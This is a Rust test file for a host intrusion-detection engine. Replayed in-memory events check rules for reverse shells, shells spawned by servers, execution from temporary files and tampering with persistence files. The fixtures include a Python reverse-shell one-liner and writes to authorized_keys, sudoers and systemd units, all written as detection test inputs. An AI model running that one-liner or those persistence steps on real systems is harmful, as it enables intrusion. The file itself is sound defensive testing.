//! Replay tests: events built in memory, no kernel.
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, SystemTime};

use super::*;
use crate::event::{EventData, Net, Parent, Process, Transport};

fn t(s: u64) -> SystemTime {
    SystemTime::UNIX_EPOCH + Duration::from_secs(1_800_000_000 + s)
}

fn proc(pid: u32, exe: &str, args: &[&str], euid: u32) -> Process {
    Process {
        pid,
        tid: pid,
        ppid: 1,
        start_ns: u64::from(pid) * 10_000_000,
        uid: euid,
        euid,
        exe: exe.into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        comm: exe
            .rsplit('/')
            .next()
            .unwrap_or("")
            .chars()
            .take(15)
            .collect(),
        ..Process::default()
    }
}

fn ev(
    kind: EventKind,
    process: Process,
    parent: Option<(u32, &str)>,
    data: EventData,
) -> Arc<Event> {
    let parent = parent.map(|(pid, exe)| Parent {
        pid,
        start_ns: u64::from(pid) * 10_000_000,
        exe: exe.into(),
        ..Parent::default()
    });
    Arc::new(Event {
        kind,
        ktime_ns: 1,
        time: t(0),
        ancestors: parent.iter().map(|p| p.exe.clone()).collect(),
        parent,
        process,
        data,
        wire_flags: 0,
    })
}

fn exec(pid: u32, exe: &str, args: &[&str], parent: Option<(u32, &str)>) -> Arc<Event> {
    ev(
        EventKind::Exec,
        proc(pid, exe, args, 0),
        parent,
        EventData::Exec {
            filename: exe.into(),
            filename_truncated: false,
        },
    )
}

fn net(
    kind: EventKind,
    pid: u32,
    exe: &str,
    parent: Option<(u32, &str)>,
    local: &str,
    peer: &str,
    result: i64,
) -> Arc<Event> {
    let n = Net {
        transport: Transport::Tcp,
        local: local.parse::<SocketAddr>().unwrap(),
        peer: peer.parse().unwrap(),
        result,
    };
    ev(kind, proc(pid, exe, &[exe], 33), parent, EventData::Net(n))
}

/// An engine with the default policy and baselines in monitor mode over an empty model, unless told.
fn engine(mode: Mode) -> Engine {
    let mut c = DetectConfig::default();
    c.baseline.mode = mode;
    Engine::new_at(&c, Metrics::default(), t(0)).unwrap()
}

fn rules_hit(e: &mut Engine, event: &Arc<Event>) -> Vec<String> {
    e.process_at(event, t(1))
        .into_iter()
        .filter_map(|f| match f.source {
            FindingSource::Rule { id, .. } => Some(id),
            _ => None,
        })
        .collect()
}

#[test]
fn default_policy_loads() {
    let p = Policy::load(None).unwrap();
    assert!(p.rules.len() >= 8);
}

#[test]
fn shell_spawned_by_named_server() {
    let mut e = engine(Mode::Learn);
    let hit = rules_hit(
        &mut e,
        &exec(
            20,
            "/bin/sh",
            &["sh", "-c", "id"],
            Some((10, "/usr/sbin/nginx")),
        ),
    );
    assert!(
        hit.contains(&"shell_spawned_by_server".to_string()),
        "{hit:?}"
    );
    let miss = rules_hit(
        &mut e,
        &exec(
            21,
            "/bin/sh",
            &["sh", "-c", "id"],
            Some((11, "/usr/sbin/cron")),
        ),
    );
    assert!(
        !miss.contains(&"shell_spawned_by_server".to_string()),
        "{miss:?}"
    );
}

#[test]
fn shell_spawned_by_any_process_that_listens() {
    let mut e = engine(Mode::Learn);
    let server = "/opt/app/bin/myserver";
    assert!(
        rules_hit(
            &mut e,
            &exec(31, "/bin/bash", &["bash"], Some((30, server)))
        )
        .is_empty(),
        "not network-facing yet"
    );
    e.process_at(
        &net(
            EventKind::Listen,
            30,
            server,
            None,
            "0.0.0.0:8000",
            "0.0.0.0:0",
            0,
        ),
        t(1),
    );
    let hit = rules_hit(
        &mut e,
        &exec(32, "/bin/bash", &["bash"], Some((30, server))),
    );
    assert!(
        hit.contains(&"shell_spawned_by_server".to_string()),
        "{hit:?}"
    );
    // Once the server exits, a new process reusing its pid is not network-facing.
    let mut exit = (*net(
        EventKind::Exit,
        30,
        server,
        None,
        "0.0.0.0:0",
        "0.0.0.0:0",
        0,
    ))
    .clone();
    exit.data = EventData::Exit { status: 0 };
    e.process_at(&Arc::new(exit), t(2));
    assert!(!rules_hit(
        &mut e,
        &exec(33, "/bin/bash", &["bash"], Some((30, server)))
    )
    .contains(&"shell_spawned_by_server".to_string()));
}

#[test]
fn exec_from_temp_and_memory() {
    let mut e = engine(Mode::Learn);
    for exe in [
        "/tmp/x",
        "/var/tmp/a/b",
        "/dev/shm/.hidden",
        "/memfd:payload (deleted)",
        "/usr/bin/gone (deleted)",
    ] {
        assert!(
            rules_hit(&mut e, &exec(40, exe, &[exe], None))
                .contains(&"exec_from_temp_or_memory".to_string()),
            "{exe}"
        );
    }
    for exe in ["/usr/bin/tmp", "/opt/tmp/x", "/home/u/tmp/x"] {
        assert!(
            !rules_hit(&mut e, &exec(41, exe, &[exe], None))
                .contains(&"exec_from_temp_or_memory".to_string()),
            "{exe}"
        );
    }
}

#[test]
fn reverse_shell_shapes() {
    let mut e = engine(Mode::Learn);
    let c = net(
        EventKind::Connect,
        50,
        "/usr/bin/bash",
        None,
        "10.0.0.2:40000",
        "203.0.113.9:4444",
        0,
    );
    assert!(rules_hit(&mut e, &c).contains(&"reverse_shell_shell_connect".to_string()));
    let c = net(
        EventKind::Connect,
        51,
        "/usr/bin/curl",
        None,
        "10.0.0.2:40000",
        "203.0.113.9:4444",
        0,
    );
    assert!(!rules_hit(&mut e, &c).contains(&"reverse_shell_shell_connect".to_string()));

    let nc = exec(52, "/bin/sh", &["sh"], Some((5, "/usr/bin/ncat")));
    assert!(rules_hit(&mut e, &nc).contains(&"reverse_shell_netcat_exec".to_string()));
    let ok = exec(53, "/bin/sh", &["sh"], Some((5, "/usr/bin/make")));
    assert!(!rules_hit(&mut e, &ok).contains(&"reverse_shell_netcat_exec".to_string()));

    let py = exec(
        54,
        "/usr/bin/python3",
        &["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")"],
        None,
    );
    assert!(rules_hit(&mut e, &py).contains(&"reverse_shell_interpreter".to_string()));
    let py = exec(
        55,
        "/usr/bin/python3",
        &["python3", "-m", "http.server"],
        None,
    );
    assert!(!rules_hit(&mut e, &py).contains(&"reverse_shell_interpreter".to_string()));
}

#[test]
fn web_server_outbound_ports() {
    let mut e = engine(Mode::Learn);
    let bad = net(
        EventKind::Connect,
        60,
        "/usr/sbin/nginx",
        None,
        "10.0.0.2:40000",
        "198.51.100.7:6667",
        0,
    );
    assert!(rules_hit(&mut e, &bad).contains(&"web_server_unusual_outbound_port".to_string()));
    for peer in ["198.51.100.7:443", "127.0.0.1:3000", "[::1]:9000"] {
        let ok = net(
            EventKind::Connect,
            61,
            "/usr/sbin/nginx",
            None,
            "10.0.0.2:40000",
            peer,
            0,
        );
        assert!(
            !rules_hit(&mut e, &ok).contains(&"web_server_unusual_outbound_port".to_string()),
            "{peer}"
        );
    }
}

#[test]
fn listen_by_interpreter_and_package_managers() {
    let mut e = engine(Mode::Learn);
    let l = net(
        EventKind::Listen,
        70,
        "/usr/bin/python3.11",
        None,
        "0.0.0.0:31337",
        "0.0.0.0:0",
        0,
    );
    assert!(rules_hit(&mut e, &l).contains(&"listen_by_shell_or_interpreter".to_string()));
    let l = net(
        EventKind::Listen,
        71,
        "/usr/sbin/sshd",
        None,
        "0.0.0.0:22",
        "0.0.0.0:0",
        0,
    );
    assert!(!rules_hit(&mut e, &l).contains(&"listen_by_shell_or_interpreter".to_string()));
    let a = exec(72, "/usr/bin/apt-get", &["apt-get", "install", "x"], None);
    assert!(rules_hit(&mut e, &a).contains(&"package_manager_or_compiler".to_string()));
    let a = exec(73, "/usr/bin/aptitude-curses", &["x"], None);
    assert!(!rules_hit(&mut e, &a).contains(&"package_manager_or_compiler".to_string()));
}

#[test]
fn duplicates_are_suppressed_within_the_window() {
    let m = Metrics::default();
    let mut e = Engine::new_at(&DetectConfig::default(), m.clone(), t(0)).unwrap();
    let x = exec(80, "/tmp/x", &["/tmp/x"], None);
    assert_eq!(e.process_at(&x, t(1)).len(), 1);
    assert_eq!(e.process_at(&x, t(2)).len(), 0, "duplicate in window");
    let rule = RuleLabels {
        rule: "exec_from_temp_or_memory".into(),
        severity: Severity::high,
    };
    assert_eq!(m.rule_matches.get_or_create(&rule).get(), 1);
    assert_eq!(
        m.finding_occurrences
            .get_or_create(&ReasonLabels {
                reason: "rule".into()
            })
            .get(),
        2
    );
    assert_eq!(
        m.findings_suppressed
            .get_or_create(&ReasonLabels {
                reason: "duplicate".into()
            })
            .get(),
        1
    );
    assert_eq!(
        e.process_at(&x, t(1 + 601)).len(),
        1,
        "reported again after the window"
    );
}

#[test]
fn rule_counters_are_pre_initialised() {
    let m = Metrics::default();
    let _e = Engine::new_at(&DetectConfig::default(), m.clone(), t(0)).unwrap();
    let mut out = String::new();
    let mut reg = prometheus_client::registry::Registry::default();
    reg.register("rm", "x", m.rule_matches.clone());
    prometheus_client::encoding::text::encode(&mut out, &reg).unwrap();
    assert!(
        out.contains("rule=\"shell_spawned_by_server\",severity=\"high\"} 0"),
        "{out}"
    );
}

#[test]
fn baseline_models_learn_then_flag_new_keys_once() {
    let mut c = DetectConfig::default();
    c.baseline.learn_for = Duration::from_secs(60);
    let m = Metrics::default();
    let mut e = Engine::new_at(&c, m.clone(), t(0)).unwrap();
    let workload = vec![
        exec(90, "/usr/bin/curl", &["curl"], Some((9, "/usr/bin/bash"))),
        net(
            EventKind::Connect,
            90,
            "/usr/bin/curl",
            Some((9, "/usr/bin/bash")),
            "10.0.0.2:40000",
            "203.0.113.1:443",
            0,
        ),
        net(
            EventKind::Listen,
            91,
            "/usr/sbin/sshd",
            None,
            "0.0.0.0:22",
            "0.0.0.0:0",
            0,
        ),
    ];
    for w in &workload {
        assert!(e
            .process_at(w, t(1))
            .iter()
            .all(|f| matches!(f.source, FindingSource::Rule { .. })));
    }
    e.tick(t(61));
    for w in &workload {
        assert!(
            e.process_at(w, t(62)).is_empty(),
            "the learned workload is silent"
        );
    }
    // New: a never-seen executable connects; the same shell spawns a new child; sshd listens on a new port.
    let new = vec![
        (
            net(
                EventKind::Connect,
                92,
                "/opt/new/agent",
                None,
                "10.0.0.2:40001",
                "203.0.113.1:443",
                0,
            ),
            vec!["network_process", "outbound_port"],
        ),
        (
            exec(93, "/usr/bin/wget", &["wget"], Some((9, "/usr/bin/bash"))),
            vec!["process_lineage", "process_user"],
        ),
        (
            net(
                EventKind::Listen,
                91,
                "/usr/sbin/sshd",
                None,
                "0.0.0.0:2222",
                "0.0.0.0:0",
                0,
            ),
            vec!["listen_port"],
        ),
    ];
    for (ev, models) in &new {
        let got: Vec<String> = e
            .process_at(ev, t(63))
            .into_iter()
            .filter_map(|f| match f.source {
                FindingSource::Anomaly { model, .. } => Some(model),
                _ => None,
            })
            .collect();
        assert_eq!(&got, models);
        assert!(
            e.process_at(ev, t(64))
                .iter()
                .all(|f| !matches!(f.source, FindingSource::Anomaly { .. })),
            "once per key"
        );
    }
    let anomalies = m
        .anomalies
        .get_or_create(&ModelSeverityLabels {
            model: "listen_port".into(),
            severity: Severity::medium,
        })
        .get();
    assert_eq!(anomalies, 1);
    let seen = m
        .baseline_keys
        .get_or_create(&ModelStateLabels {
            model: "listen_port".into(),
            state: "seen_in_monitor".into(),
        })
        .get();
    assert_eq!(seen, 1);
    assert_eq!(
        m.baseline_learning
            .get_or_create(&ModelLabels {
                model: "listen_port".into()
            })
            .get(),
        0
    );
}

#[test]
fn threat_level_follows_findings() {
    let m = Metrics::default();
    let mut e = Engine::new_at(&DetectConfig::default(), m.clone(), t(0)).unwrap();
    e.tick(t(1));
    assert_eq!(m.threat_level.get(), 0.0);
    e.process_at(
        &exec(100, "/tmp/x", &["/tmp/x"], Some((10, "/usr/sbin/nginx"))),
        t(2),
    );
    e.tick(t(2));
    assert!(m.threat_level.get() >= 20.0, "{}", m.threat_level.get());
}

#[test]
fn policy_errors_name_file_line_and_allowed_values() {
    let bad_kind = "rules:\n  - id: r1\n    description: d\n    severity: high\n    tactic: execution\n    match:\n      kind: [exce]\n";
    let err = Policy::parse(bad_kind, "p.yml").unwrap_err().to_string();
    assert!(
        err.starts_with(
            "p.yml:2: rule \"r1\": match.kind: \"exce\" is not an event kind; allowed: exec"
        ),
        "{err}"
    );

    let bad_sev = "rules:\n  - id: r1\n    description: d\n    severity: urgent\n    tactic: execution\n    match: {kind: [exec]}\n";
    let err = Policy::parse(bad_sev, "p.yml").unwrap_err().to_string();
    assert!(err.starts_with("p.yml:4:15: "), "{err}");
    assert!(
        err.contains(
            "unknown variant `urgent`, expected one of `info`, `low`, `medium`, `high`, `critical`"
        ),
        "{err}"
    );

    let bad_key = "rules:\n  - id: r1\n    description: d\n    severity: low\n    tactic: execution\n    match:\n      exe: [x]\n";
    let err = Policy::parse(bad_key, "p.yml").unwrap_err().to_string();
    assert!(
        err.contains("unknown field `exe`, expected one of `kind`, `exe_path`"),
        "{err}"
    );

    for (field, value, want) in [
        ("args_regex", "'('", "invalid regex"),
        ("peer_cidr", "[10.0.0.0/33]", "is not a CIDR"),
        ("exe_path", "['[']", "not a valid glob"),
    ] {
        let text = format!("rules:\n  - id: r9\n    description: d\n    severity: low\n    tactic: execution\n    match:\n      {field}: {value}\n");
        let err = Policy::parse(&text, "p.yml").unwrap_err().to_string();
        assert!(
            err.contains(want) && err.contains(&format!("match.{field}")),
            "{err}"
        );
    }

    let dup = "rules:\n  - {id: a, description: d, severity: low, tactic: execution, match: {kind: [exec]}}\n  - {id: a, description: d, severity: low, tactic: execution, match: {kind: [exec]}}\n";
    assert!(Policy::parse(dup, "p.yml")
        .unwrap_err()
        .to_string()
        .contains("duplicate rule id"));
    let bad_t = "rules:\n  - {id: a, description: d, severity: low, tactic: execution, techniques: [X12], match: {kind: [exec]}}\n";
    assert!(Policy::parse(bad_t, "p.yml")
        .unwrap_err()
        .to_string()
        .contains("MITRE ATT&CK technique id"));
}

#[test]
fn except_blocks_veto_a_match() {
    let text = "rules:\n  - id: curl_out\n    description: d\n    severity: low\n    tactic: execution\n    match:\n      kind: [connect]\n      exe_name: [curl]\n    except:\n      - peer_port: [443]\n";
    let p = Policy::parse(text, "p.yml").unwrap();
    let ctx = Context::default();
    let yes = net(
        EventKind::Connect,
        1,
        "/usr/bin/curl",
        None,
        "10.0.0.1:40000",
        "1.2.3.4:80",
        0,
    );
    let no = net(
        EventKind::Connect,
        1,
        "/usr/bin/curl",
        None,
        "10.0.0.1:40000",
        "1.2.3.4:443",
        0,
    );
    assert!(p.rules[0].matches(&yes, &ctx));
    assert!(!p.rules[0].matches(&no, &ctx));
}

fn file_ev(
    kind: EventKind,
    pid: u32,
    exe: &str,
    euid: u32,
    path: &str,
    new_path: Option<&str>,
    parent: Option<(u32, &str)>,
) -> Arc<Event> {
    let f = crate::event::File {
        path: path.into(),
        new_path: new_path.map(String::from),
        flags: 0o1101,
        mode: 0o644,
        owner_uid: None,
        owner_gid: None,
        dirfd: -100,
        resolved: true,
        result: 0,
    };
    ev(
        kind,
        proc(pid, exe, &[exe], euid),
        parent,
        EventData::File(f),
    )
}

#[test]
fn file_integrity_rules() {
    use EventKind::*;
    // (kind, exe, path, new path, parent exe, rule, fires)
    type Case = (
        EventKind,
        &'static str,
        &'static str,
        Option<&'static str>,
        Option<&'static str>,
        &'static str,
        bool,
    );
    let cases: &[Case] = &[
        (
            FileWrite,
            "/usr/bin/bash",
            "/root/.ssh/authorized_keys",
            None,
            None,
            "ssh_authorized_keys_changed",
            true,
        ),
        (
            FileRename,
            "/usr/bin/mv",
            "/home/bob/.ssh/x",
            Some("/home/bob/.ssh/authorized_keys2"),
            None,
            "ssh_authorized_keys_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/vim",
            "/home/bob/.ssh/known_hosts",
            None,
            None,
            "ssh_authorized_keys_changed",
            false,
        ),
        (
            FileWrite,
            "/usr/bin/python3",
            "/etc/passwd",
            None,
            None,
            "account_or_sudo_files_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/tee",
            "/etc/sudoers.d/backdoor",
            None,
            None,
            "account_or_sudo_files_changed",
            true,
        ),
        (
            FileRename,
            "/usr/sbin/useradd",
            "/etc/passwd+",
            Some("/etc/passwd"),
            None,
            "account_or_sudo_files_changed",
            false,
        ),
        (
            FileWrite,
            "/usr/bin/bash",
            "/etc/cron.d/job",
            None,
            None,
            "scheduled_task_or_service_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/cp",
            "/etc/systemd/system/evil.service",
            None,
            None,
            "scheduled_task_or_service_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/curl",
            "/usr/local/bin/kubectl",
            None,
            None,
            "system_binary_changed_outside_package_manager",
            true,
        ),
        (
            FileRename,
            "/usr/bin/dpkg",
            "/usr/bin/ls.dpkg-new",
            Some("/usr/bin/ls"),
            None,
            "system_binary_changed_outside_package_manager",
            false,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/usr/sbin/x",
            None,
            Some("/usr/bin/dpkg"),
            "system_binary_changed_outside_package_manager",
            false,
        ),
        (
            FileWrite,
            "/usr/bin/cp",
            "/lib/modules/6.1/extra/rk.ko",
            None,
            None,
            "boot_or_kernel_module_files_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/vim",
            "/etc/hosts",
            None,
            None,
            "",
            false,
        ),
    ];
    for (n, (kind, exe, path, new_path, parent, rule, fires)) in cases.iter().enumerate() {
        let mut e = engine(Mode::Learn);
        let ev = file_ev(
            *kind,
            100 + n as u32,
            exe,
            0,
            path,
            *new_path,
            parent.map(|p| (10, p)),
        );
        let hit = rules_hit(&mut e, &ev);
        if rule.is_empty() {
            assert!(hit.is_empty(), "case {n}: {hit:?}");
        } else {
            assert_eq!(
                hit.contains(&rule.to_string()),
                *fires,
                "case {n}: {exe} {path} -> {hit:?}"
            );
        }
    }
}

#[test]
fn path_ownership_rule_in_the_policy_language() {
    let text = "rules:\n  - id: app_dir_foreign_writer\n    description: d\n    severity: high\n    tactic: persistence\n    match:\n      kind: [file_write, file_rename, file_unlink]\n      file_path: [\"/srv/app/**\"]\n    except:\n      - euid: [998]\n      - exe_name: [chef-client]\n";
    let p = Policy::parse(text, "p.yml").unwrap();
    let ctx = Context::default();
    assert!(!p.rules[0].matches(
        &file_ev(
            EventKind::FileWrite,
            1,
            "/usr/bin/cp",
            998,
            "/srv/app/index.php",
            None,
            None
        ),
        &ctx
    ));
    assert!(!p.rules[0].matches(
        &file_ev(
            EventKind::FileWrite,
            1,
            "/opt/chef/bin/chef-client",
            0,
            "/srv/app/x",
            None,
            None
        ),
        &ctx
    ));
    assert!(p.rules[0].matches(
        &file_ev(
            EventKind::FileWrite,
            1,
            "/usr/bin/vim",
            1000,
            "/srv/app/index.php",
            None,
            None
        ),
        &ctx
    ));
    assert!(!p.rules[0].matches(
        &file_ev(
            EventKind::FileWrite,
            1,
            "/usr/bin/vim",
            1000,
            "/srv/application/x",
            None,
            None
        ),
        &ctx
    ));
}

#[test]
fn file_writer_model_keys() {
    let ev = file_ev(
        EventKind::FileWrite,
        1,
        "/usr/bin/python3.11",
        0,
        "/srv/app/cache/x",
        None,
        None,
    );
    assert_eq!(
        Model::FileWriter.key(&ev).unwrap(),
        "/srv/app/cache -> /usr/bin/python* (root)"
    );
    let ev = file_ev(
        EventKind::FileRename,
        1,
        "/usr/bin/mv",
        0,
        "/tmp/a",
        Some("/etc/x"),
        None,
    );
    assert_eq!(
        Model::FileWriter.key(&ev).unwrap(),
        "/etc -> /usr/bin/mv (root)"
    );
}

#[test]
fn privilege_rules() {
    let mut e = engine(Mode::Learn);
    let mut p = proc(200, "/tmp/.x/rootme", &["rootme"], 0);
    p.uid = 1000; // real uid 1000, effective 0: a setuid-root binary
    let event = ev(
        EventKind::Exec,
        p,
        None,
        EventData::Exec {
            filename: "/tmp/.x/rootme".into(),
            filename_truncated: false,
        },
    );
    let hit = rules_hit(&mut e, &event);
    assert!(
        hit.contains(&"root_gained_by_unusual_setuid_binary".to_string()),
        "{hit:?}"
    );
    let rec = crate::sinks::record::event_record(&event);
    assert_eq!(
        rec.get("tripline.exec.setid"),
        Some(&crate::sinks::record::Value::Bool(true))
    );

    let mut p = proc(201, "/usr/bin/sudo", &["sudo", "id"], 0);
    p.uid = 1000;
    let event = ev(
        EventKind::Exec,
        p,
        None,
        EventData::Exec {
            filename: "/usr/bin/sudo".into(),
            filename_truncated: false,
        },
    );
    let hit = rules_hit(&mut e, &event);
    assert!(
        hit.contains(&"privilege_tool_run".to_string())
            && !hit.contains(&"root_gained_by_unusual_setuid_binary".to_string()),
        "{hit:?}"
    );

    let root = exec(202, "/usr/bin/id", &["id"], None); // real root: not a gain
    assert!(!rules_hit(&mut e, &root).contains(&"root_gained_by_unusual_setuid_binary".to_string()));
}

#[test]
fn policy_rejects_unknown_tactic_and_empty_conditions() {
    let rule = |tactic: &str, m: &str, extra: &str| {
        format!("rules:\n  - id: r\n    description: d\n    severity: low\n    tactic: {tactic}\n    match: {m}\n{extra}")
    };
    let err = Policy::parse(&rule("teleportation", "{kind: [exec]}", ""), "p.yml")
        .unwrap_err()
        .to_string();
    assert!(
        err.starts_with("p.yml:2: rule \"r\": tactic: \"teleportation\" is not a MITRE ATT&CK tactic; allowed: reconnaissance"),
        "{err}"
    );
    for (m, extra, want) in [
        ("{}", "", "match: must hold at least one condition"),
        ("{kind: []}", "", "kind: an empty list never matches"),
        (
            "{kind: [exec]}",
            "    except:\n      - {}\n",
            "except[0]: an empty block",
        ),
        (
            "{kind: [exec]}",
            "    any_of:\n      - {exe_name: []}\n",
            "exe_name: an empty list",
        ),
    ] {
        let err = Policy::parse(&rule("execution", m, extra), "p.yml")
            .unwrap_err()
            .to_string();
        assert!(err.contains(want), "{m} {extra}: {err}");
    }
    Policy::parse(&rule("execution", "{result: failure}", ""), "p.yml").unwrap();
}

#[test]
fn policy_parse_handles_the_rule_bound() {
    let mut text = String::from("rules:\n");
    for i in 0..crate::limits::MAX_RULES {
        text.push_str(&format!(
            "  - {{id: r{i}, description: d, severity: low, tactic: execution, match: {{exe_name: [x{i}]}}}}\n"
        ));
    }
    // A duplicate at the very end still names its line (found in one pass over the text).
    text.push_str(
        "  - {id: r7, description: d, severity: low, tactic: execution, match: {kind: [exec]}}\n",
    );
    let err = Policy::parse(&text, "p.yml").unwrap_err().to_string();
    assert!(
        err.contains("too many") || err.contains("at most 10000"),
        "{err}"
    );
    let text: String = text
        .lines()
        .take(crate::limits::MAX_RULES)
        .collect::<Vec<_>>()
        .join("\n");
    let text = format!("{text}\n  - {{id: r7, description: d, severity: low, tactic: execution, match: {{kind: [exec]}}}}\n");
    let err = Policy::parse(&text, "p.yml").unwrap_err().to_string();
    assert!(
        err.starts_with("p.yml:10001: rule \"r7\": id: duplicate rule id"),
        "{err}"
    );
}

#[test]
fn unwritable_baseline_is_an_error_at_start_and_a_metric_later() {
    let dir = tempfile::tempdir().unwrap();
    let mut config = DetectConfig::default();
    config.baseline.file = Some(dir.path().join("missing-dir/b.yml"));
    let mut reg = prometheus_client::registry::Registry::default();
    let m = Metrics::new(&mut reg);
    let err = Engine::new_at(&config, m.clone(), t(0)).err().unwrap();
    assert!(
        format!("{err:#}").contains("must exist and be writable"),
        "{err:#}"
    );

    // Writable at start, gone later: each failed save is counted.
    let sub = dir.path().join("state");
    std::fs::create_dir(&sub).unwrap();
    config.baseline.file = Some(sub.join("b.yml"));
    let mut e = Engine::new_at(&config, m.clone(), t(0)).unwrap();
    std::fs::remove_dir_all(&sub).unwrap();
    e.tick(t(61));
    e.tick(t(122));
    assert_eq!(m.baseline_write_errors.get(), 2);
}
